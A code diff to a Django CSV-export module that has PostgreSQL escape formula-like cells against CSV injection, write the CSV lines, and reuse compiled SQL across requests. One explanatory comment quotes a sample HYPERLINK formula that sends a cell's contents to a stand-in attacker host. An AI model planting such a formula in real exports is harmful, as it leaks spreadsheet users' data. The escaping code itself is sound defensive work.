@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Iterable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from dataclasses import dataclass
 from datetime import date
 from decimal import Decimal
@@ -15,6 +15,8 @@ from django.db import models, transaction
 from django.db.models import Expression, F, Func, QuerySet, TextField, Value
 from django.db.models.constants import LOOKUP_SEP
 from django.db.models.functions import Cast
+
+from hope.compiled import Compiled
 
 # OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
 # turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
@@ -82,6 +84,9 @@ def as_text(field: str) -> Cast:
 # The formula starts as character codes: PostgreSQL's ascii() of a text's first
 # character is an integer compared without making a one-letter text per cell.
 _FORMULA_CODES = ", ".join(str(ord(start)) for start in FORMULA_STARTS)
+# ... all below "A": most text starts with a letter, and one comparison rules it out
+# before the list is searched (a quarter of a year's export's time in PostgreSQL).
+_LAST_FORMULA_CODE = max(ord(start) for start in FORMULA_STARTS)
 
 
 # safe_text and choice_label write their SQL themselves: as Case and When (a filter built
@@ -93,8 +98,9 @@ class _SafeText(Func):
     def as_sql(self, compiler, connection, **extra_context):
         sql, params = compiler.compile(self.source_expressions[0])
         return (
-            f"CASE WHEN ASCII({sql}) IN ({_FORMULA_CODES}) THEN '''' || ({sql}) ELSE ({sql}) END",
-            [*params, *params, *params],
+            f"CASE WHEN ASCII({sql}) <= {_LAST_FORMULA_CODE} AND ASCII({sql}) IN ({_FORMULA_CODES})"
+            f" THEN '''' || ({sql}) ELSE ({sql}) END",
+            [*params, *params, *params, *params],
         )
 
 
@@ -153,6 +159,42 @@ class SqlRows:
     writes as CSV lines (see ``sql_rows`` and ``_CsvLine``)."""
 
     queryset: QuerySet
+
+    def lines(self, size: int) -> Iterator[str]:
+        # In a transaction of its own, so the server-side cursor is not WITH HOLD (see
+        # Compiled.stream, which reads SqlLines the same way).
+        lines_query = _csv_line_rows(self.queryset)
+        with transaction.atomic(using=lines_query.db):
+            for (line,) in lines_query.iterator(chunk_size=max(size, 2000)):
+                yield line
+
+
+class SqlLines:
+    """``sql_rows(build(**values))`` written as CSV lines by SQL compiled once a process
+    (``hope.compiled.Compiled``), for an export run again and again with new values
+    (the year): building and compiling a year's export of ten columns, each worded by
+    PostgreSQL, cost Django more than a tenth of the download. ``build`` is called once,
+    with made-up values, and must not branch on them."""
+
+    def __init__(self, build: Callable[..., QuerySet], **kinds: type) -> None:
+        self._compiled = Compiled(
+            lambda **values: _csv_line_rows(sql_rows(build(**values)).queryset), **kinds
+        )
+
+    def rows(self, **values) -> SqlLinesPart:
+        return SqlLinesPart(self._compiled, values)
+
+
+@dataclass(frozen=True)
+class SqlLinesPart:
+    """``SqlLines`` with a request's values: a part of ``csv_blocks``."""
+
+    compiled: Compiled
+    values: dict
+
+    def lines(self, size: int) -> Iterator[str]:
+        for (line,) in self.compiled.stream(chunk_size=max(size, 2000), **self.values):
+            yield line
 
 
 # Plain columns a spreadsheet reads as written: whole numbers (ids, counts).
@@ -239,17 +281,23 @@ class _CsvLine(Expression):
             quoted_params += [*test_params, pattern, *params, *params]
         comma = " || ',' || "
         if not texts:
-            return comma.join(plain), plain_params
-        return (
-            f"CASE WHEN ({' || '.join(texts)}) ~ %s"
-            f" THEN {comma.join(quoted)} ELSE {comma.join(plain)} END",
-            [*texts_params, pattern, *quoted_params, *plain_params],
-        )
+            sql, params = comma.join(plain), plain_params
+        else:
+            sql = (
+                f"CASE WHEN ({' || '.join(texts)}) ~ %s"
+                f" THEN {comma.join(quoted)} ELSE {comma.join(plain)} END"
+            )
+            params = [*texts_params, pattern, *quoted_params, *plain_params]
+        if len(self.cells) == 1:
+            # The csv module writes a row of one empty cell as "" (an empty line would
+            # read as no row at all).
+            return f"COALESCE(NULLIF({sql}, ''), '\"\"')", params
+        return sql, params
 
 
-def _csv_line_rows(queryset: QuerySet) -> tuple[QuerySet, int]:
-    """The ``sql_rows`` queryset as one text per row, its CSV line (``_CsvLine``), and
-    its number of columns. PostgreSQL joining the cells costs a few milliseconds a
+def _csv_line_rows(queryset: QuerySet) -> QuerySet:
+    """The ``sql_rows`` queryset as one text per row, its CSV line (``_CsvLine``).
+    PostgreSQL joining the cells costs a few milliseconds a
     year; the csv module writing them, and psycopg2 making a string of each, cost ten
     times that."""
     query = queryset.query
@@ -264,7 +312,7 @@ def _csv_line_rows(queryset: QuerySet) -> tuple[QuerySet, int]:
         else:
             tests.append(cell)
     line = _CsvLine(cells, tests)
-    return queryset.annotate(csv_line=line).values_list("csv_line", flat=True), len(cells)
+    return queryset.annotate(csv_line=line).values_list("csv_line")
 
 
 class _Echo:
@@ -286,15 +334,18 @@ _WRITTEN_AS_THEY_ARE = frozenset({Decimal, int, date, type(None)})
 
 
 def csv_blocks(
-    header: list[str], *parts: Iterable[Iterable] | SqlRows, rows_per_block: int = 1000
+    header: list[str],
+    *parts: Iterable[Iterable] | SqlRows | SqlLinesPart,
+    rows_per_block: int = 1000,
 ) -> Iterator[str]:
     """``csv_lines`` in blocks of rows, for a long StreamingHttpResponse: a chunk per row
     costs the server more than the row itself (a year's export at ten years of data:
     60,000 writes to the socket), while a block keeps memory as flat as a row.
 
-    Each part is either rows made safe here, cell by cell, or ``sql_rows``, which
-    PostgreSQL made safe and wrote as CSV lines: a Python check per cell, then the csv
-    module's writing of each cell, was most of a long export's time."""
+    Each part is either rows made safe here, cell by cell, or ``sql_rows`` or
+    ``SqlLines.rows``, which PostgreSQL made safe and wrote as CSV lines: a Python check
+    per cell, then the csv module's writing of each cell, was most of a long export's
+    time."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
     buffer.write(BOM)
@@ -303,8 +354,8 @@ def csv_blocks(
     buffer.seek(0)
     buffer.truncate()
     for part in parts:
-        if isinstance(part, SqlRows):
-            for text in _sql_blocks(part.queryset, rows_per_block):
+        if isinstance(part, SqlRows | SqlLinesPart):
+            for text in _sql_blocks(part, rows_per_block):
                 yield head + text
                 head = ""
             continue
@@ -318,19 +369,11 @@ def csv_blocks(
         yield head
 
 
-def _sql_blocks(queryset: QuerySet, size: int) -> Iterator[str]:
-    lines_query, columns = _csv_line_rows(queryset)
-    # In a transaction of its own, so the server-side cursor is not WITH HOLD: outside
-    # one, PostgreSQL works out and stores every row before sending the first (30 ms of a
-    # year's export at ten years of data); inside, rows come as they are read. Read only;
-    # the response closing this generator (the download done or dropped) ends it.
-    with transaction.atomic(using=lines_query.db):
-        lines = lines_query.iterator(chunk_size=max(size, 2000))
-        while block := list(islice(lines, size)):
-            if columns == 1:  # the csv module writes a row of one empty cell as ""
-                block = [line or '""' for line in block]
-            block.append("")
-            yield "\r\n".join(block)
+def _sql_blocks(part: SqlRows | SqlLinesPart, size: int) -> Iterator[str]:
+    lines = part.lines(size)
+    while block := list(islice(lines, size)):
+        block.append("")
+        yield "\r\n".join(block)
 
 
 def _checked_blocks(rows: Iterable[Iterable], size: int) -> Iterator[list]:
